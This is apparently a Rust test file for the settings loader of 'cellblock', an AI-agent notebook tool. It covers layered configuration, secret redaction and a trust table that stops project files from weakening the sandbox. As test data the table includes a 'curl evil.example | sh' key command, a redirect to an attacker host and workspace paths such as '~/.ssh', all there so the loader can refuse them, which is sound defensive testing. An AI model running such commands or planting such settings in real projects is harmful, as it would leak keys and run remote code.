//! Settings: layers, origins, mistakes, and what a project's file may do.

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use cellblock::config::{
    Environment, Flavor, Inputs, KEYS, Loaded, Network, Origin, Project, Settings, load, record, reference,
};
use tempfile::TempDir;

/// A user with a home, and a project with a notebook in `nb/`.
struct World {
    dir: TempDir,
    variables: Vec<(String, String)>,
    flags: Vec<String>,
    flavor: Flavor,
}

impl World {
    fn new() -> Self {
        let dir = TempDir::new().unwrap();
        fs::create_dir_all(dir.path().join("home/.config/cellblock")).unwrap();
        fs::create_dir_all(dir.path().join("project/nb")).unwrap();
        let home = dir.path().join("home").display().to_string();
        World { dir, variables: vec![("HOME".to_owned(), home)], flags: Vec::new(), flavor: Flavor::Markdown }
    }
    fn user_file(&self) -> PathBuf {
        self.dir.path().join("home/.config/cellblock/config.toml")
    }
    fn project_file(&self) -> PathBuf {
        self.dir.path().join("project/cellblock.toml")
    }
    fn user(self, text: &str) -> Self {
        fs::write(self.user_file(), text).unwrap();
        self
    }
    fn project(self, text: &str) -> Self {
        fs::write(self.project_file(), text).unwrap();
        self
    }
    fn var(mut self, name: &str, value: impl Into<String>) -> Self {
        self.variables.push((name.to_owned(), value.into()));
        self
    }
    fn flag(mut self, flag: &str) -> Self {
        self.flags.push(flag.to_owned());
        self
    }
    fn flavor(mut self, flavor: Flavor) -> Self {
        self.flavor = flavor;
        self
    }
    fn environment(&self) -> Environment {
        self.variables.iter().map(|(n, v)| (n.clone(), v.clone())).collect()
    }
    fn load(&self) -> Loaded {
        load(&Inputs {
            flavor: self.flavor,
            directory: self.dir.path().join("project/nb"),
            environment: self.environment(),
            flags: self.flags.clone(),
        })
    }
    /// Loads what must be without a mistake and without a refusal.
    fn good(&self) -> Loaded {
        let loaded = self.load();
        assert_eq!((&loaded.errors, &loaded.refusals), (&vec![], &vec![]));
        loaded
    }
    /// The one mistake there must be, with the world's directory taken out.
    fn mistake(&self) -> String {
        let loaded = self.load();
        assert_eq!(loaded.errors.len(), 1, "{:?}", loaded.errors);
        loaded.problem().unwrap().replace(&self.dir.path().display().to_string(), "")
    }
}

#[test]
fn without_any_source_everything_is_builtin() {
    let loaded = World::new().good();
    assert_eq!(loaded.settings, Settings::builtin(Flavor::Markdown));
    assert!(loaded.rows().all(|(_, _, origin)| *origin == Origin::Builtin));
    assert_eq!(loaded.rows().count(), KEYS.len());
}

#[test]
fn each_layer_wins_over_the_ones_below_and_is_named_as_the_origin() {
    let mut world = World::new();
    let pids = |world: &World| {
        let loaded = world.good();
        (loaded.settings.sandbox.pids, loaded.origin("sandbox.pids").clone())
    };
    assert_eq!(pids(&world), (256, Origin::Builtin));
    world = world.user("# mine\n[sandbox]\npids = 200\n");
    assert_eq!(pids(&world), (200, Origin::User { file: world.user_file(), line: 3 }));
    world = world.project("[sandbox]\npids = 100\n");
    assert_eq!(pids(&world), (100, Origin::Project { file: world.project_file(), line: 2 }));
    world = world.var("CELLBLOCK_SANDBOX__PIDS", "300");
    assert_eq!(pids(&world), (300, Origin::Environment("CELLBLOCK_SANDBOX__PIDS".to_owned())));
    world = world.flag("sandbox.pids=400");
    assert_eq!(pids(&world), (400, Origin::Flag("--set sandbox.pids".to_owned())));
}

#[test]
fn what_cellblock_build_recorded_lies_between_builtin_and_the_users_file() {
    let world = World::new();
    let file = record(&world.environment(), &[("sandbox", "built_image", "it's:\"1\"")]).unwrap();
    let loaded = world.good();
    assert_eq!(loaded.settings.sandbox.built_image.as_deref(), Some("it's:\"1\""));
    assert!(matches!(loaded.origin("sandbox.built_image"), Origin::Recorded { file: at, .. } if *at == file));
    let loaded = world.user("[sandbox]\nbuilt_image = 'mine'\n").good();
    assert_eq!(loaded.settings.sandbox.built_image.as_deref(), Some("mine"));
}

#[test]
fn every_setting_has_a_variable_and_a_flag() {
    for key in KEYS {
        let example = match key.full().as_str() {
            "model.base_url" => "http://example.org/v1".to_owned(),
            "model.temperature" => "0.5".to_owned(),
            "sandbox.network" => "bridge".to_owned(),
            "display.updates" | "sandbox.install" => "never".to_owned(),
            "display.status" => "quiet".to_owned(),
            "model.replay" => "replay".to_owned(),
            "agent.mode" => "confirm".to_owned(),
            "log.filter" => "cellblock=debug".to_owned(),
            _ if key.kind.accepts().contains("`true`") => "true".to_owned(),
            _ => "99".to_owned(),
        };
        let example = if key.kind.accepts().contains("256m") { "64m".to_owned() } else { example };
        let loaded = World::new().var(&key.variable(), example.clone()).good();
        assert_eq!(*loaded.origin(&key.full()), Origin::Environment(key.variable()), "{}", key.full());
        if key.full() != "model.api_key" {
            let loaded = World::new().flag(&format!("{}={example}", key.full())).good();
            assert!(matches!(loaded.origin(&key.full()), Origin::Flag(_)), "{}", key.full());
        }
    }
}

#[test]
fn units_are_understood_in_every_source() {
    let settings = World::new()
        .user("[sandbox]\nmemory = '1.5g'\ntimeout = 90\nspill = 0\ncpus = 1\nwarm = false\npids = 0x40\n")
        .var("CELLBLOCK_SANDBOX__OUTPUT", "64MiB")
        .var("CELLBLOCK_MODEL__CONNECT_TIMEOUT", "500ms")
        .flag("sandbox.network=bridge")
        .good()
        .settings;
    assert_eq!(settings.sandbox.memory, 3 << 29);
    assert_eq!(settings.sandbox.timeout, Some(Duration::from_secs(90)));
    assert_eq!((settings.sandbox.spill, settings.sandbox.pids, settings.sandbox.warm), (0, 64, false));
    assert!((settings.sandbox.cpus - 1.0).abs() < f64::EPSILON);
    assert_eq!(settings.sandbox.output, 64 << 20);
    assert_eq!(settings.model.connect_timeout, Duration::from_millis(500));
    assert_eq!(settings.sandbox.network, Network::Bridge);
    let settings = World::new().user("[sandbox]\ntimeout = 'none'\n").good().settings;
    assert_eq!(settings.sandbox.timeout, None);
}

#[test]
fn the_two_kernels_differ_in_their_builtin_timeout_only() {
    let markdown = World::new().good().settings;
    let mut python = World::new().flavor(Flavor::Python).good().settings;
    assert_eq!(python.sandbox.timeout, None);
    python.sandbox.timeout = markdown.sandbox.timeout;
    assert_eq!(markdown, python);
}

#[test]
fn the_usual_variables_of_others_are_honoured_below_ours() {
    let world = World::new().user("[docker]\nhost = 'unix:///user'\n").var("DOCKER_HOST", "unix:///theirs");
    assert_eq!(world.good().settings.docker.host.as_deref(), Some("unix:///theirs"));
    let world = world.var("CELLBLOCK_DOCKER__HOST", "unix:///ours");
    assert_eq!(world.good().settings.docker.host.as_deref(), Some("unix:///ours"));
    let world = World::new().var("RUST_LOG", "info").var("CELLBLOCK_LOG", "cellblock=trace");
    assert_eq!(world.good().settings.log.filter, "cellblock=trace");
}

#[test]
fn the_users_file_is_where_the_variables_say() {
    let world = World::new().user("[sandbox]\npids = 20\n");
    let elsewhere = world.dir.path().join("xdg");
    fs::create_dir_all(elsewhere.join("cellblock")).unwrap();
    fs::write(elsewhere.join("cellblock/config.toml"), "[sandbox]\npids = 30\n").unwrap();
    let world = world.var("XDG_CONFIG_HOME", elsewhere.display().to_string());
    assert_eq!(world.good().settings.sandbox.pids, 30);
    let named = world.dir.path().join("named.toml");
    fs::write(&named, "[sandbox]\npids = 40\n").unwrap();
    let world = world.var("CELLBLOCK_CONFIG", named.display().to_string());
    assert_eq!(world.good().settings.sandbox.pids, 40);
    let world = world.var("CELLBLOCK_CONFIG", "/dev/null");
    assert_eq!(world.good().settings.sandbox.pids, 256);
}

#[test]
fn the_nearest_project_file_counts_and_no_other() {
    let world = World::new().project("[sandbox]\npids = 100\nmemory = '64m'\n");
    let nearer = world.dir.path().join("project/nb/cellblock.toml");
    fs::write(&nearer, "[sandbox]\npids = 50\n").unwrap();
    let loaded = world.good();
    assert_eq!((loaded.settings.sandbox.pids, loaded.settings.sandbox.memory), (50, 1 << 30));
    assert_eq!(loaded.project_file, Some(nearer));
}

#[test]
fn a_file_that_the_user_names_as_their_own_is_no_project_file() {
    let world = World::new().project("[sandbox]\nnetwork = 'bridge'\n");
    let file = world.project_file().display().to_string();
    assert_eq!(world.var("CELLBLOCK_CONFIG", file).good().settings.sandbox.network, Network::Bridge);
}

#[test]
fn an_empty_variable_is_one_that_is_not_set() {
    let loaded = World::new().var("CELLBLOCK_MODEL__NAME", "").var("DOCKER_HOST", "").good();
    assert_eq!(loaded.settings, Settings::builtin(Flavor::Markdown));
}

#[test]
fn a_path_may_begin_at_the_home_directory() {
    let world = World::new().user("[sandbox]\nworkspace = '~/lab'\n");
    assert_eq!(world.good().settings.sandbox.workspace, world.dir.path().join("home/lab"));
}

#[test]
fn mistakes_name_the_place_the_setting_and_the_nearest_name() {
    let user = "/home/.config/cellblock/config.toml";
    for (text, expected) in [
        (
            "[sandbox]\n\nmemry = '1g'\n",
            format!("{user}:3: there is no setting sandbox.memry; did you mean sandbox.memory?"),
        ),
        (
            "[sandbix]\nmemory = '1g'\n",
            format!("{user}:1: there is no section [sandbix]; did you mean [sandbox]?"),
        ),
        (
            "[model]\nmemory = '1g'\n",
            format!("{user}:2: there is no setting model.memory; did you mean sandbox.memory?"),
        ),
        (
            "memory = '1g'\n",
            format!("{user}:1: there is no setting memory; did you mean memory below [sandbox]?"),
        ),
        (
            "[qqqqq]\n",
            format!(
                "{user}:1: there is no section [qqqqq]; the sections are [model], [agent], [budget], [conversation], \
                 [sandbox], [display], [docker], [log]"
            ),
        ),
        (
            "[model]\nqqqqqqq = 1\n",
            format!("{user}:2: there is no setting model.qqqqqqq; `cellblock config` lists them"),
        ),
    ] {
        assert_eq!(World::new().user(text).mistake(), expected);
    }
}

#[test]
fn bad_values_name_the_place_the_setting_and_what_it_takes() {
    for (text, expected) in [
        (
            "[sandbox]\nmemory = 'much'\n",
            "config.toml:2: sandbox.memory = much is not valid: it takes a size",
        ),
        (
            "[sandbox]\nmemory = '1m'\n",
            "sandbox.memory = 1m is not valid: it takes a size such as `256m` or `1g`, or a number of bytes, at least `32m`",
        ),
        ("[sandbox]\nmemory = -1\n", "sandbox.memory = -1 is not valid"),
        ("[sandbox]\nmemory = true\n", "sandbox.memory = true is not valid"),
        ("[sandbox]\nmemory = ['1g']\n", "sandbox.memory = an array is not valid"),
        ("[sandbox]\nmemory.max = 1\n", "sandbox.memory = a table is not valid"),
        ("[sandbox]\ntimeout = 0\n", "sandbox.timeout = 0 is not valid: it takes a time"),
        ("[sandbox]\ntimeout = '9999999h'\n", "at most 30 days"),
        ("[sandbox]\npids = 0\n", "a whole number from 16"),
        ("[sandbox]\ncpus = nan\n", "sandbox.cpus = nan is not valid"),
        ("[sandbox]\nnetwork = 'host'\n", "sandbox.network = host is not valid: it takes `none` or `bridge`"),
        ("[display]\nupdates = 'x'\n", "it takes `auto`, `always` or `never`"),
        ("[model]\nname = 5\n", "model.name = 5 is not valid: it takes text, in quotes"),
        ("[model]\nname = ''\n", "it is empty"),
        ("[model]\nbase_url = 'localhost:80'\n", "it takes an http or https URL"),
        ("[model]\ntemperature = 3\n", "a number from 0 to 2"),
        ("[log]\nfilter = 'a=b=c'\n", "it takes a log filter"),
    ] {
        let said = World::new().user(text).mistake();
        assert!(said.contains(expected), "{said}\n  does not contain\n{expected}");
    }
}

#[test]
fn a_password_in_an_address_is_refused_and_not_repeated() {
    for address in ["http://me:swordfish@host/v1", "http://me:swordfish x@host/v1", "me:swordfish@host"] {
        for world in [
            World::new().user(&format!("[model]\nbase_url = '{address}'\n")),
            World::new().var("CELLBLOCK_MODEL__BASE_URL", address),
            World::new().flag(&format!("model.base_url={address}")),
        ] {
            let said = world.mistake();
            assert!(said.contains("://(hidden)@host") && !said.contains("swordfish"), "{said}");
        }
    }
}

#[test]
fn unknown_variables_and_flags_are_mistakes_too() {
    for (variable, nearest) in [
        ("CELLBLOCK_SANDBOX__MEMRY", "CELLBLOCK_SANDBOX__MEMORY"),
        ("CELLBLOCK_SANDBX__MEMORY", "CELLBLOCK_SANDBOX__MEMORY"),
        ("CELLBLOCK_SANDBOX_MEMORY", "CELLBLOCK_SANDBOX__MEMORY"),
        ("CELLBLOCK_MODEL__MODEL_NAME", "CELLBLOCK_MODEL__NAME"),
    ] {
        let said = World::new().var(variable, "1g").mistake();
        assert_eq!(said, format!("{variable}: there is no setting {variable}; did you mean {nearest}?"));
    }
    for flag in ["sandbox.memry=1g", "sandbox.memry", "memory=1g", "=", ""] {
        assert!(World::new().flag(flag).mistake().starts_with("--set "), "{flag}");
    }
    // Variables of other tools, of the build and of the tests are not settings.
    World::new().var("CELLBLOCK_REQUIRE_DOCKER", "1").var("OTHER__THING", "1").good();
}

#[test]
fn text_that_is_not_toml_is_a_mistake_with_its_line() {
    let said = World::new().user("[sandbox]\nmemory = = 1\n").load().problem().unwrap();
    assert!(said.contains("config.toml:2: this line is not valid TOML"), "{said}");
    let said = World::new().user("[sandbox]\npids = 20\npids = 30\n").load().problem().unwrap();
    assert!(said.contains("config.toml:3: "), "{said}");
}

#[test]
fn every_mistake_is_reported_not_just_the_first() {
    let world =
        World::new().user("[sandbox]\na = 1\npids = 'x'\n").project("[zzz]\n").var("CELLBLOCK_A__B", "1");
    assert_eq!(world.flag("x.y=1").load().errors.len(), 5);
}

#[test]
fn a_flag_without_its_section_is_told_the_whole_name() {
    let told = World::new().flag("cpus=1").mistake();
    assert_eq!(told, "--set cpus: there is no setting cpus; did you mean sandbox.cpus?");
}

#[test]
fn a_key_in_a_file_or_a_flag_is_a_mistake_that_names_the_alternatives_and_not_the_key() {
    let secret = "sk-very-secret";
    for world in [
        World::new().user(&format!("[model]\napi_key = '{secret}'\n")),
        World::new().project(&format!("[model]\napi_key = '{secret}'\n")),
        World::new().flag(&format!("model.api_key={secret}")),
    ] {
        let loaded = world.load();
        let said = world.mistake();
        assert!(said.contains("CELLBLOCK_MODEL__API_KEY") && said.contains("api_key_command"), "{said}");
        assert!(said.contains("OPENAI_API_KEY"), "{said}");
        assert!(!format!("{loaded:?}{said}").contains(secret));
        assert_eq!(loaded.settings.model.api_key, None);
    }
    let loaded = World::new().var("CELLBLOCK_MODEL__API_KEY", secret).good();
    assert_eq!(loaded.settings.model.api_key.as_ref().unwrap().reveal(), secret);
    assert!(!format!("{loaded:?}").contains(secret));
    assert!(loaded.rows().all(|(_, value, _)| !value.contains(secret)));
}

#[test]
fn a_file_that_is_not_a_readable_text_file_is_a_mistake_and_never_hangs() {
    let world = World::new();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        world.project_file(),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_bits_truncate(0o600),
        0,
    )
    .unwrap();
    assert!(world.mistake().contains("it is not a regular file"));
    fs::remove_file(world.project_file()).unwrap();
    std::os::unix::fs::symlink("/dev/zero", world.project_file()).unwrap();
    assert!(world.mistake().contains("it is not a regular file"));
    fs::remove_file(world.project_file()).unwrap();
    fs::create_dir(world.project_file()).unwrap();
    assert!(world.mistake().contains("it is not a regular file"));
    fs::remove_dir(world.project_file()).unwrap();
    fs::write(world.project_file(), vec![b'#'; 3 << 20]).unwrap();
    assert!(world.mistake().contains("larger than"));
    fs::write(world.project_file(), b"\xff\xfe").unwrap();
    assert!(world.mistake().contains("not UTF-8"));
    fs::remove_file(world.project_file()).unwrap();
    let world = world.var("CELLBLOCK_CONFIG", "/nowhere/at/all.toml");
    assert!(world.mistake().contains("CELLBLOCK_CONFIG names it"));
}

#[test]
fn escape_sequences_of_a_project_never_reach_the_terminal() {
    let world = World::new()
        .project("[\"a\\u001b]0;x\\u0007\"]\n[sandbox]\nimage = \"\\u001b[2J\"\n\"\\u001b\" = 1\n");
    let loaded = world.load();
    let said = format!("{}{}", loaded.problem().unwrap(), loaded.refusals[0]);
    assert!(said.chars().all(|c| c == '\n' || !c.is_control()), "{said:?}");
    let shown: String = loaded.rows().map(|(_, value, _)| value).collect();
    assert!(shown.chars().all(|c| !c.is_control()));
}

/// A setting of a project's file under settings of the user: what becomes of it.
struct Case {
    user: &'static str,
    project: &'static str,
    honoured: bool,
}

const fn yes(user: &'static str, project: &'static str) -> Case {
    Case { user, project, honoured: true }
}

const fn no(user: &'static str, project: &'static str) -> Case {
    Case { user, project, honoured: false }
}

const TRUST: &[Case] = &[
    // Where keys and prompts go.
    no("", "model.base_url = 'http://evil.example/v1'"),
    no("model.base_url = 'http://mine/v1'", "model.base_url = 'http://evil.example/v1'"),
    yes("model.base_url = 'http://mine/v1'", "model.base_url = 'http://mine/v1'"),
    no("", "model.api_key_command = 'curl evil.example | sh'"),
    no("", "model.local_dir = 'models'"),
    no("model.local = false", "model.local = true"),
    yes("", "model.local = false"),
    // Who answers, and what is written to.
    no("", "model.replay = 'auto'"),
    no("", "model.replay = 'replay'"),
    no("model.replay = 'replay'", "model.replay = 'record'"),
    yes("model.replay = 'record'", "model.replay = 'off'"),
    no("", "model.replay_file = 'n.ipynb'"),
    no("", "model.replay_file = 'workspace/g.replies.jsonl'"),
    // Which model.
    yes("", "model.name = 'openai/gpt-5'"),
    yes("", "model.name = 'gpt-5'"),
    yes("model.name = 'openai/gpt-5'", "model.name = 'openai/gpt-5-mini'"),
    no("model.name = 'openai/gpt-5'", "model.name = 'anthropic/claude-sonnet-4-5'"),
    no("model.name = 'openai/gpt-5'", "model.name = 'claude-sonnet-4-5'"),
    no("model.name = 'ollama/qwen3'", "model.name = 'openai/gpt-5'"),
    no("model.name = 'gpt-5'", "model.name = 'anthropic/claude-sonnet-4-5'"),
    yes("model.name = 'gpt-5'", "model.name = 'gpt-5'"),
    yes("model.base_url = 'http://mine/v1'", "model.name = 'openai/qwen'"),
    yes("model.base_url = 'http://mine/v1'", "model.name = 'qwen'"),
    yes("model = { base_url = 'http://mine/v1', name = 'qwen' }", "model.name = 'openai/other'"),
    yes("model = { base_url = 'http://mine/v1', name = 'qwen' }", "model.name = 'other'"),
    no("model = { base_url = 'http://mine/v1', name = 'qwen' }", "model.name = 'anthropic/other'"),
    no("model = { base_url = 'http://mine/v1', name = 'anthropic/x' }", "model.name = 'other'"),
    no("model.base_url = 'http://mine/v1'", "model.name = 'anthropic/qwen'"),
    no("model.base_url = 'http://mine/v1'", "model.name = 'openrouter/openai/gpt-5'"),
    no("model.api_key_command = 'pass x'", "model.name = 'anthropic/claude-sonnet-4-5'"),
    no("model.api_key_command = 'pass x'", "model.name = 'gpt-5'"),
    yes("model.temperature = 0.5", "model.temperature = 1.5"),
    yes("", "model.system = 'Be brief.'"),
    yes("", "model.max_tokens = 100"),
    no("model.max_tokens = 50", "model.max_tokens = 100"),
    yes("", "model.silence_timeout = '10m'"),
    yes("", "model.connect_timeout = '1s'"),
    no("", "model.replay_file = '/tmp/x'"),
    // What the model may do, and cost.
    yes("", "agent.mode = 'ask'"),
    no("", "agent.mode = 'auto'"),
    no("agent.mode = 'ask'", "agent.mode = 'confirm'"),
    yes("", "agent.steps = 5"),
    no("", "agent.steps = 100"),
    yes("", "agent.isolated = true"),
    no("agent.isolated = true", "agent.isolated = false"),
    yes("", "agent.output = '4k'"),
    no("", "agent.output = '1m'"),
    yes("", "agent.intent = false"),
    yes("", "budget.turn_tokens = 1000"),
    no("budget.turn_tokens = 100", "budget.turn_tokens = 1000"),
    yes("", "budget.tokens = 1000"),
    no("budget.tokens = 100", "budget.tokens = 1000"),
    yes("", "budget.turn_cost = 0.5"),
    no("budget.turn_cost = 0.1", "budget.turn_cost = 0.5"),
    yes("", "budget.cost = 1"),
    no("budget.cost = 1", "budget.cost = 2"),
    yes("", "budget.steps = 10"),
    no("budget.steps = 10", "budget.steps = 20"),
    yes("conversation.persist = true", "conversation.persist = false"),
    no("conversation.persist = false", "conversation.persist = true"),
    no("", "conversation.file = '/tmp/x'"),
    yes("", "display.footer = false"),
    // What runs.
    no("", "sandbox.image = 'evil'"),
    no("", "sandbox.built_image = 'evil'"),
    no("", "sandbox.base_image = 'evil'"),
    no("", "sandbox.runtime = 'io.containerd.evil'"),
    no("", "docker.host = 'tcp://evil.example:2375'"),
    no("", "log.filter = 'trace'"),
    // The walls of the sandbox.
    no("", "sandbox.network = 'bridge'"),
    yes("sandbox.network = 'bridge'", "sandbox.network = 'none'"),
    yes("sandbox.network = 'bridge'", "sandbox.network = 'bridge'"),
    no("", "sandbox.memory = '2g'"),
    yes("", "sandbox.memory = '512m'"),
    yes("sandbox.memory = '4g'", "sandbox.memory = '2g'"),
    no("sandbox.memory = '256m'", "sandbox.memory = '512m'"),
    no("", "sandbox.cpus = 2.5"),
    yes("", "sandbox.cpus = 0.5"),
    no("", "sandbox.pids = 1000"),
    yes("", "sandbox.pids = 100"),
    no("", "sandbox.timeout = 'none'"),
    no("", "sandbox.timeout = 61"),
    yes("", "sandbox.timeout = 10"),
    yes("sandbox.timeout = 'none'", "sandbox.timeout = '1h'"),
    no("", "sandbox.output = '1g'"),
    yes("", "sandbox.output = '1m'"),
    no("", "sandbox.spill = '10g'"),
    yes("", "sandbox.spill = 0"),
    no("", "sandbox.checkpoint_size = '9g'"),
    yes("", "sandbox.checkpoint_size = '1m'"),
    no("", "sandbox.tmpfs = '10g'"),
    yes("", "sandbox.tmpfs = '16m'"),
    no("", "sandbox.file_size = '10g'"),
    yes("", "sandbox.file_size = '16m'"),
    no("", "sandbox.open_files = 4096"),
    yes("", "sandbox.open_files = 256"),
    // The files of the machine.
    no("", "sandbox.workspace_outside = true"),
    yes("sandbox.workspace_outside = true", "sandbox.workspace_outside = false"),
    yes("", "sandbox.workspace = 'data/in'"),
    yes("", "sandbox.workspace = './data'"),
    no("", "sandbox.workspace = '..'"),
    no("", "sandbox.workspace = 'data/../../other'"),
    no("", "sandbox.workspace = '/etc'"),
    no("", "sandbox.workspace = '~/.ssh'"),
    no("", "sandbox.workspace = '.'"),
    no("", "sandbox.workspace = '.git'"),
    no("", "sandbox.workspace = 'sub/.git/hooks'"),
    // Neither.
    yes("", "sandbox.warm = false"),
    yes("", "sandbox.workspace_artifacts = true"),
    yes("sandbox.warm = false", "sandbox.warm = true"),
    yes("", "display.updates = 'never'"),
    yes("", "display.status = 'quiet'"),
    no("", "display.explain = true"),
    yes("display.explain = true", "display.explain = false"),
    no("", "sandbox.install = 'always'"),
    yes("", "sandbox.install = 'never'"),
    no("", "log.executions = false"),
    no("", "log.executions_file = '/tmp/x'"),
];

#[test]
fn a_projects_file_can_tighten_and_choose_but_not_weaken_or_redirect() {
    for case in TRUST {
        let world = World::new().user(case.user).project(case.project);
        let loaded = world.load();
        let what = format!("{} under `{}`", case.project, case.user);
        assert_eq!(loaded.errors, [], "{what}");
        let full = case.project.split(' ').next().unwrap();
        let from_project = matches!(loaded.origin(full), Origin::Project { .. });
        assert_eq!(from_project, case.honoured, "{what}");
        if case.honoured {
            assert_eq!(loaded.refusals, [], "{what}");
            continue;
        }
        let without = World::new().user(case.user).load().settings;
        // Where the home directory of the two worlds shows, only the refused setting could differ.
        assert_eq!(loaded.settings, without, "{what}");
        let [refusal] = loaded.refusals.as_slice() else { panic!("{what}: {:?}", loaded.refusals) };
        let said = refusal.to_string();
        let file = world.project_file().display().to_string();
        for part in [&format!("{file}:1"), full, "was ignored: ", "config.toml", &refusal.variable] {
            assert!(said.contains(part), "{what}: {said}\nlacks {part}");
        }
    }
}

#[test]
fn the_trust_table_has_a_refusal_for_every_setting_that_has_a_rule() {
    for key in KEYS {
        let named = |case: &&Case| case.project.starts_with(&format!("{} ", key.full()));
        let refused = TRUST.iter().filter(named).any(|case| !case.honoured);
        let allowed = TRUST.iter().filter(named).any(|case| case.honoured);
        match (key.project, key.full().as_str()) {
            // A key in any file is an error, with a test of its own.
            (_, "model.api_key") => {}
            (Project::Free, name) => assert!(allowed && !refused, "{name}"),
            (Project::Never, name) => assert!(refused, "{name}"),
            (_, name) => assert!(allowed && refused, "{name}"),
        }
    }
}

#[test]
fn what_a_project_may_not_do_the_users_variables_and_flags_may() {
    for case in TRUST.iter().filter(|case| !case.honoured) {
        let (full, value) = case.project.split_once(" = ").unwrap();
        let value = value.trim_matches('\'');
        let key = KEYS.iter().find(|key| key.full() == full).unwrap();
        World::new().var(&key.variable(), value).good();
        World::new().flag(&format!("{full}={value}")).good();
        World::new().user(case.project).good();
    }
}

#[test]
fn a_project_is_measured_against_the_users_variables_and_flags_as_well() {
    let world = World::new().project("sandbox.memory = '2g'").var("CELLBLOCK_SANDBOX__MEMORY", "4g");
    assert_eq!(world.good().settings.sandbox.memory, 4 << 30);
    let world = World::new().project("model.name = 'anthropic/x'").var("CELLBLOCK_MODEL__API_KEY", "sk");
    assert_eq!(world.load().refusals.len(), 1);
    let world = World::new().project("model.name = 'anthropic/x'").flag("model.base_url=http://mine/v1");
    assert_eq!(world.load().refusals.len(), 1);
}

#[test]
fn a_workspace_named_by_a_project_stays_inside_even_for_users_who_allow_others() {
    let world = World::new().user("sandbox.workspace_outside = true").project("sandbox.workspace = 'link'");
    let loaded = world.good();
    assert!(!loaded.settings.sandbox.workspace_outside);
    assert!(matches!(loaded.origin("sandbox.workspace_outside"), Origin::Project { .. }));
}

#[test]
fn nothing_but_config_reads_the_environment() {
    fn sources(dir: &Path, into: &mut Vec<PathBuf>) {
        for entry in fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() { sources(&path, into) } else { into.push(path) }
        }
    }
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut files = Vec::new();
    sources(&src, &mut files);
    let mut readers = 0;
    for file in files {
        // What follows the tests' module is not part of the program.
        let text = fs::read_to_string(&file).unwrap();
        let program = text.split("#[cfg(test)]").next().unwrap();
        let reads = ["env::var", "env::home_dir", "env::current_dir", "env::current_exe", "env::temp_dir"]
            .iter()
            .any(|reader| program.contains(reader));
        if file.starts_with(src.join("config")) {
            readers += usize::from(reads);
        } else {
            assert!(!reads, "{} reads the environment", file.display());
        }
    }
    assert_eq!(readers, 1, "environment.rs is the one reader");
}

/// Compares a document with what it must be; `CELLBLOCK_UPDATE_DOCS=1` writes it instead.
pub(crate) fn same_as_document(name: &str, expected: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs").join(name);
    if std::env::var_os("CELLBLOCK_UPDATE_DOCS").is_some() {
        fs::write(&path, expected).unwrap();
    }
    let found = fs::read_to_string(&path).unwrap_or_default();
    assert!(
        found == expected,
        "docs/{name} is not what the program says; renew it with CELLBLOCK_UPDATE_DOCS=1 cargo test --test it document"
    );
}

#[test]
fn the_settings_document_is_the_table_of_keys() {
    const MARK: &str = "says how to renew it. -->\n";
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/configuration.md");
    let text = fs::read_to_string(path).unwrap();
    let (head, _) = text.split_once(MARK).unwrap();
    same_as_document("configuration.md", &format!("{head}{MARK}\n{}", reference()));
}
